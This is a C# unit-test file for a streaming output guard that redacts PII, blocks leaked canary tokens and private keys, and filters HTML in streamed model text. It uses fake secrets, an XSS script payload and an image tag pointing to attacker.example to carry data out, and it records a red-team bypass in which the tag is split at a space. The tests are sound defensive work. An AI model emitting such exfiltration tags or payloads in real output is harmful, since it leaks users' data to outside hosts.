using System.Text;

namespace SecureKernel.Tests.Pii;

[TestClass]
public sealed class StreamingTextGuardTests
{
    private const string Text =
        "Hello, here is the data you asked for. The customer email is jane.doe@example.com and the card on file is " +
        "4111 1111 1111 1111. Their key is AKIAZ3MSJV4WWNKWW5FB and the callback is https://admin:S3cr3tPass@db.example.com/x " +
        "while the phone is +1 415 555 0132. That is all for today, thanks for asking and have a nice day.";

    private static readonly string[] s_secrets =
        ["jane.doe@example.com", "4111 1111 1111 1111", "AKIAZ3MSJV4WWNKWW5FB", "S3cr3tPass", "+1 415 555 0132", "1111 1111"];

    private static StreamingTextGuard NewGuard(int holdBack, RedactionSession session, CanaryRegistry? canaries = null, IReadOnlyCollection<string>? block = null) =>
        new(new StreamingTextGuardOptions
        {
            HoldBackChars = holdBack,
            Redactor = PiiRedactor.Default,
            Redaction = new RedactionOptions { Session = session },
            Canaries = canaries,
            BlockOnEntityTypes = block,
        });

    private static (string Output, StreamingGuardResult Last) Run(StreamingTextGuard guard, IEnumerable<string> deltas)
    {
        var sb = new StringBuilder();
        StreamingGuardResult last = StreamingGuardResult.Empty;
        foreach (string d in deltas)
        {
            last = guard.Append(d);
            sb.Append(last.Text);
            if (last.Blocked)
            {
                return (sb.ToString(), last);
            }
        }

        last = guard.Complete();
        sb.Append(last.Text);
        return (sb.ToString(), last);
    }

    [TestMethod]
    public void EntitiesSplitAtEveryBoundary_AreRedacted_AndOutputMatchesOneShot()
    {
        string expected = PiiRedactor.Default.Redact(Text, RedactionOperator.Replace, new RedactionOptions { Session = new RedactionSession() }).Text;
        for (int split = 0; split <= Text.Length; split++)
        {
            var guard = NewGuard(holdBack: 48, new RedactionSession());
            (string output, StreamingGuardResult last) = Run(guard, [Text[..split], Text[split..]]);
            Assert.IsFalse(last.Blocked);
            foreach (string secret in s_secrets)
            {
                Assert.DoesNotContain(secret, output, $"split {split} leaked");
            }

            Assert.AreEqual(expected, output, $"split {split}");
        }
    }

    [TestMethod]
    public void CharacterByCharacterAndRandomChunks_NeverLeak()
    {
        var random = new Random(12345);
        for (int run = 0; run < 30; run++)
        {
            var deltas = new List<string>();
            int i = 0;
            while (i < Text.Length)
            {
                int n = run == 0 ? 1 : random.Next(1, 30);
                n = Math.Min(n, Text.Length - i);
                deltas.Add(Text.Substring(i, n));
                i += n;
            }

            var guard = NewGuard(holdBack: 40, new RedactionSession());
            var released = new StringBuilder();
            foreach (string d in deltas)
            {
                StreamingGuardResult r = guard.Append(d);
                released.Append(r.Text);
                Assert.IsFalse(r.Blocked);
            }

            released.Append(guard.Complete().Text);
            foreach (string secret in s_secrets)
            {
                Assert.DoesNotContain(secret, released.ToString(), $"run {run} leaked");
            }
        }
    }

    [TestMethod]
    public void Canary_SplitAcrossDeltas_BlocksWithoutReleasingIt()
    {
        var registry = new CanaryRegistry();
        CanaryToken canary = registry.CreateToken();
        string text = new string('x', 20) + " Sure! The secret marker is " + canary.Value + " and more text follows here " + new string('y', 200);
        int at = text.IndexOf(canary.Value, StringComparison.Ordinal);
        for (int split = at; split <= at + canary.Value.Length; split++)
        {
            var guard = NewGuard(holdBack: 64, new RedactionSession(), registry);
            (string output, StreamingGuardResult last) = Run(guard, [text[..split], text[split..]]);
            Assert.IsTrue(last.Blocked, $"split {split}");
            Assert.AreEqual("canary", last.Reason);
            Assert.DoesNotContain(canary.Value[CanaryToken.Prefix.Length..][..4], output);
            Assert.IsTrue(guard.IsBlocked);

            // Terminal: later calls keep the verdict and release nothing.
            Assert.IsTrue(guard.Append("more").Blocked);
            Assert.IsTrue(guard.Complete().Blocked);
        }
    }

    [TestMethod]
    public void BlockingEntityType_EndsStream()
    {
        var guard = NewGuard(64, new RedactionSession(), block: [PiiEntityTypes.PrivateKey]);
        (string output, StreamingGuardResult last) = Run(guard, ["Here you go:\n-----BEGIN RSA PRIVATE KEY-----\nMIIEow", "IBAAKCAQEAu1SU1LfVLPHCozMxH2Mo\n-----END RSA PRIVATE KEY-----\n"]);
        Assert.IsTrue(last.Blocked);
        Assert.AreEqual("blocked-entity:PRIVATE_KEY", last.Reason);
        Assert.DoesNotContain("MIIE", output);
    }

    [TestMethod]
    public void Transform_CanRewriteOrBlock_AndExceptionsFailClosed()
    {
        var upper = new StreamingTextGuard(new StreamingTextGuardOptions { HoldBackChars = 4, Transform = s => StreamingTransformResult.Pass(s.ToUpperInvariant()) });
        (string output, _) = Run(upper, ["hello ", "world ", "again"]);
        Assert.AreEqual("HELLO WORLD AGAIN", output);

        var blocker = new StreamingTextGuard(new StreamingTextGuardOptions { HoldBackChars = 4, Transform = s => s.Contains("<script", StringComparison.Ordinal) ? StreamingTransformResult.Block("html-script") : StreamingTransformResult.Pass(s) });
        (string blockedOutput, StreamingGuardResult last) = Run(blocker, ["ok then ", "<scr", "ipt>alert(1)</script> tail tail tail"]);
        Assert.IsTrue(last.Blocked);
        Assert.AreEqual("html-script", last.Reason);
        Assert.DoesNotContain("<scr", blockedOutput);

        var throwing = new StreamingTextGuard(new StreamingTextGuardOptions { HoldBackChars = 0, Transform = _ => throw new InvalidOperationException("boom") });
        StreamingGuardResult r = throwing.Append("anything at all");
        Assert.IsTrue(r.Blocked);
        Assert.AreEqual("transform-failed", r.Reason);
    }

    [TestMethod]
    public void Transform_SeesAnHtmlTagWhole_EvenWhenItHasSpacesAndArrivesInPieces()
    {
        // Found by the red-team harness: a cut at the space in "<img src=..." let the transform see "<img " alone (text,
        // left as is) and "src=...>" alone (no tag), and the caller's buffer re-formed the tag.
        var segments = new List<string>();
        var guard = new StreamingTextGuard(new StreamingTextGuardOptions { HoldBackChars = 8, Transform = s => { segments.Add(s); return StreamingTransformResult.Pass(s); } });
        (string output, _) = Run(guard, ["See <img ", "src=\"https://attacker.example/p.png?d=x\" ", "alt=\"a b\"> and ", "more text after the tag ", "to flush it."]);
        Assert.AreEqual("See <img src=\"https://attacker.example/p.png?d=x\" alt=\"a b\"> and more text after the tag to flush it.", output);
        Assert.IsTrue(segments.Any(s => s.Contains("<img src=\"https://attacker.example/p.png?d=x\" alt=\"a b\">", StringComparison.Ordinal)), string.Join(" | ", segments));
        Assert.IsFalse(segments.Any(s => s.Contains('<') && !s.Contains('>')), "no segment ends inside a tag: " + string.Join(" | ", segments));
    }

    [TestMethod]
    public void NothingReleasedWithinHoldBackWindow()
    {
        var guard = new StreamingTextGuard(new StreamingTextGuardOptions { HoldBackChars = 100 });
        Assert.AreEqual(string.Empty, guard.Append(new string('a', 60)).Text);
        Assert.AreEqual(string.Empty, guard.Append(" " + new string('b', 39)).Text);
        StreamingGuardResult r = guard.Append(" ccc");
        Assert.IsLessThanOrEqualTo(104 - 100, r.Text.Length);
        Assert.IsGreaterThanOrEqualTo(100, guard.PendingLength);
        Assert.AreEqual(new string('a', 60) + " " + new string('b', 39) + " ccc", r.Text + guard.Complete().Text);
    }

    [TestMethod]
    public void LongTokenWithoutWhitespace_IsForcedOutAtMaxPending()
    {
        var guard = new StreamingTextGuard(new StreamingTextGuardOptions { HoldBackChars = 10, MaxPendingChars = 50 });
        var sb = new StringBuilder();
        for (int i = 0; i < 20; i++)
        {
            sb.Append(guard.Append("abcdefghij").Text);
        }

        Assert.IsLessThanOrEqualTo(50, guard.PendingLength);
        sb.Append(guard.Complete().Text);
        Assert.HasCount(200, sb.ToString());
    }

    [TestMethod]
    public void InvalidOptions_AreRejected()
    {
        Assert.ThrowsExactly<ArgumentOutOfRangeException>(() => new StreamingTextGuard(new StreamingTextGuardOptions { HoldBackChars = -1 }));
        Assert.ThrowsExactly<ArgumentOutOfRangeException>(() => new StreamingTextGuard(new StreamingTextGuardOptions { HoldBackChars = 100, MaxPendingChars = 50 }));
        var g = new StreamingTextGuard(new StreamingTextGuardOptions());
        g.Complete();
        Assert.ThrowsExactly<InvalidOperationException>(() => g.Append("x"));
    }
}
